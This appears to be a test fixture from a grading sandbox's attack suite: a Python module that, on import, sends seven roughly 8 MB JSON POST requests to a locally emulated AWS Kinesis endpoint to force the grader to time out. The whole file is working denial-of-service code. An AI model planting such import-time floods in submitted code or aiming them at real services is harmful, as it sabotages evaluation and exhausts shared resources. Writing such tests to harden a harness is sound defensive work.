# /// attack
# file = "kinesis_multi_shard.py"
# outcomes = ["timed_out"]
# ///
"""Sends a few large requests at each import, which cost the cloud far more time than the student."""

import os
import socket

BODY = b'{"a":[' + b"{}," * ((8 << 20) // 3 - 10) + b"{}]}"
HEAD = (
    b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Amz-Target: Kinesis_20131202.ListStreams\r\n"
    b"Content-Length: %d\r\n\r\n" % len(BODY)
)
for _ in range(7):
    port = int(os.environ["AWS_ENDPOINT_URL"].rpartition(":")[2])
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.sendall(HEAD + BODY)
        connection.recv(65536)
